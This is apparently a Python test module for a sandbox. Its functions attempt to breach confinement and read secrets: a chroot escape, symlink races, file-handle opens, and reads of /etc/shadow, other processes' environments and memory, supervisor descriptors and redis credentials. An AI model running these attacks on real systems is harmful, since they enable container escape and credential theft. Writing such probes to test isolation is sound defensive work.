"""Attacks on what is secret: files, environments, other processes' memory, descriptors.

Each answers with what it has found; the secrets are not in the data of the job.
"""

import contextlib
import ctypes
import glob
import os
import re
import stat
import struct
import subprocess

MOST = 200_000


def text_of(path):
    with open(path, "rb") as stream:
        return stream.read(MOST).decode("latin-1")


def gather(paths):
    """What can be read of these files; raises the last error if it is nothing."""
    found, problem = [], FileNotFoundError("there is none")
    for path in paths:
        try:
            text = text_of(path)
        except OSError as error:
            problem = error
        else:
            found.append(text)
    if not found:
        raise problem
    return "\n".join(found)[-MOST:]


def others():
    return [
        f"/proc/{pid}" for pid in os.listdir("/proc") if pid.isdigit() and pid != str(os.getpid())
    ]


# ---- files


def read_file(job):
    return text_of(job["secret_file"])


def read_file_through_roots(job):
    paths = [
        os.path.join(process, "root") + job["secret_file"] for process in ["/proc/self", *others()]
    ]
    return gather(paths)


def read_file_through_folders(job):
    """From the working folders of all processes, upwards."""
    up = "../" * 12
    return gather(
        f"{process}/cwd/{up}{job['secret_file']}" for process in ["/proc/self", *others()]
    )


def read_file_through_a_link(job):
    link = os.path.join(job.room(), job["token"])
    os.symlink(job["secret_file"], link)
    return text_of(link)


def read_file_of_swapped_links(job):
    """A link that points to and fro while it is opened."""
    folder = os.path.join(job.room(), job["token"])
    os.mkdir(folder)
    decoy, link = os.path.join(folder, "decoy"), os.path.join(folder, "link")
    with open(decoy, "w") as stream:
        stream.write("nothing")
    for _ in range(50):
        for target in (decoy, job["secret_file"]):
            os.symlink(target, f"{link}.new")
            os.rename(f"{link}.new", link)
            with contextlib.suppress(OSError):
                if (text := text_of(link)) != "nothing":
                    return text
    raise PermissionError("it was never reached")


def read_file_by_handle(job):
    """By its number, as an NFS server does: no path is walked."""
    handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128))
    mount = ctypes.c_int()
    at = job["secret_file"].encode()
    job.syscall("name_to_handle_at", -100, at, handle, ctypes.byref(mount), 0)
    root = os.open("/", os.O_RDONLY)
    fd = job.syscall("open_by_handle_at", root, handle, os.O_RDONLY)
    return os.read(fd, MOST).decode()


def read_file_out_of_a_chroot(job):
    """The classic: a new root below, with the working folder kept above it."""
    folder = os.path.join(job.room(), job["token"])
    os.mkdir(folder)
    job.syscall("chroot", folder.encode())
    for _ in range(64):
        os.chdir("..")
    job.syscall("chroot", b".")
    return text_of(job["secret_file"])


def read_file_in_a_new_user_namespace(job):
    """Root of a namespace of its own: a fresh view of the mounts."""
    job.syscall("unshare", 0x10000000 | 0x00020000)
    return text_of(job["secret_file"])


def read_file_with_a_setuid_program(job):
    done = subprocess.run(
        ["su", "-c", f"cat {job['secret_file']}"], input="", capture_output=True, text=True
    )
    return f"{done.stdout} {text_of(job['secret_file'])}"


def list_folder(job):
    return os.listdir(os.path.dirname(job["secret_file"]))


def look_whether_a_file_is_there(job):
    """Not what it says, only its size and its times."""
    told = os.stat(job["secret_file"])
    return f"size={told.st_size} inode={told.st_ino}"


def read_users(job):
    return gather(["/etc/passwd", "/etc/shadow"])


def read_host_name(job):
    return text_of("/proc/sys/kernel/hostname").strip()


# ---- environments and arguments


def read_own_environment(job):
    return dict(os.environ)


def read_environments(job):
    return gather(f"{process}/environ" for process in others())


def read_environment_of_pid_1(job):
    return gather(["/proc/1/environ", f"/proc/{os.getppid()}/environ"])


def read_arguments(job):
    return gather(f"{process}/cmdline" for process in others())


# ---- memory


def areas(pid):
    """The readable parts of a process's memory that are not files."""
    for line in text_of(f"/proc/{pid}/maps").splitlines():
        span, rights, _, _, inode = line.split()[:5]
        start, end = (int(word, 16) for word in span.split("-"))
        if rights.startswith("r") and inode == "0" and end - start < 2**26 and "[v" not in line:
            yield start, end


def found_in(chunk):
    return re.findall(r"SECRET=[0-9a-f]+", chunk.decode("latin-1"))


def read_memory_of_a_process(job):
    pid = job["victim"]
    with open(f"/proc/{pid}/mem", "rb", 0) as memory:
        for start, end in areas(pid):
            memory.seek(start)
            with contextlib.suppress(OSError):
                if found := found_in(memory.read(end - start)):
                    return found
    raise PermissionError("not found")


class Iovec(ctypes.Structure):
    _fields_ = (("base", ctypes.c_void_p), ("length", ctypes.c_size_t))


def read_memory_by_process_vm(job):
    pid = job["victim"]
    for start, end in areas(pid):
        buffer = ctypes.create_string_buffer(end - start)
        ours = Iovec(ctypes.addressof(buffer), end - start)
        theirs = Iovec(start, end - start)
        job.syscall("process_vm_readv", pid, ctypes.byref(ours), 1, ctypes.byref(theirs), 1, 0)
        if found := found_in(buffer.raw):
            return found
    raise PermissionError("not found")


def read_memory_of_the_supervisor(job):
    pid = job["supervisor"]
    with open(f"/proc/{pid}/mem", "rb", 0) as memory:
        for start, end in areas(pid):
            memory.seek(start)
            with contextlib.suppress(OSError):
                if found := re.findall(
                    r"redis://:[0-9a-f]+", memory.read(end - start).decode("latin-1")
                ):
                    return found[:50]
    raise PermissionError("not found")


# ---- descriptors


def read_inherited_descriptors(job):
    found = []
    for fd in range(3, 1024):
        with contextlib.suppress(OSError):
            found.append(os.pread(fd, MOST, 0).decode("latin-1"))
    if not found:
        raise PermissionError("there are none")
    return found


def read_descriptors_of_others(job):
    """The secret file is open in the supervisor: /proc/PID/fd opens it anew."""
    folder = os.path.dirname(job["secret_file"])
    return gather(path for path in glob.glob("/proc/[0-9]*/fd/*") if leads_to(path, folder))


def leads_to(path, folder):
    with contextlib.suppress(OSError):
        return os.readlink(path).startswith(folder)
    return False


def take_a_descriptor(job):
    """Copy every descriptor of the supervisor, and read it."""
    pidfd = job.syscall("pidfd_open", job["supervisor"], 0)
    found, problem = [], PermissionError("nothing")
    for number in range(64):
        try:
            fd = job.syscall("pidfd_getfd", pidfd, number, 0)
        except OSError as error:
            problem = error if error.errno == 1 else problem
            continue
        with contextlib.suppress(OSError):
            if stat.S_ISREG(os.fstat(fd).st_mode):
                found.append(os.pread(fd, MOST, 0).decode("latin-1"))
        os.close(fd)
    if not found:
        raise problem
    return found


def read_descriptors_of_the_walls(job):
    """What built the walls had files and sockets open: nothing of it may be left."""
    found = []
    for fd in sorted(int(name) for name in os.listdir("/proc/self/fd")):
        with contextlib.suppress(OSError):
            found.append((fd, os.readlink(f"/proc/self/fd/{fd}")))
    extra = [pair for pair in found if pair[0] > 2 and not pair[1].startswith("/proc/")]
    if not extra:
        raise PermissionError("there are none")
    return extra


def read_kernel_log(job):
    """The kernel's ring buffer."""
    buffer = ctypes.create_string_buffer(1 << 18)
    length = job.syscall("syslog", 3, buffer, len(buffer))
    return buffer.raw[:length].decode("latin-1")[-MOST:]


def list_processes(job):
    """Names and arguments of everybody."""
    return gather(f"{process}/comm" for process in others()) + gather(
        f"{process}/cmdline" for process in others()
    )


def search_its_own_memory(job):
    """What earlier jobs have left in the memory it was given, and its environment as it was."""
    found = set(re.findall(r"job-[0-9a-f]{16}", gather(["/proc/self/environ"])))
    with open("/proc/self/mem", "rb", 0) as memory:
        for start, end in areas("self"):
            memory.seek(start)
            with contextlib.suppress(OSError):
                text = memory.read(end - start).decode("latin-1")
                found |= set(re.findall(r"job-[0-9a-f]{16}", text))
                found |= set(re.findall(r"redis://:[0-9a-f]+", text))
    found.discard(job["token"])
    if not found:
        raise PermissionError("there is nothing of others")
    return sorted(found)
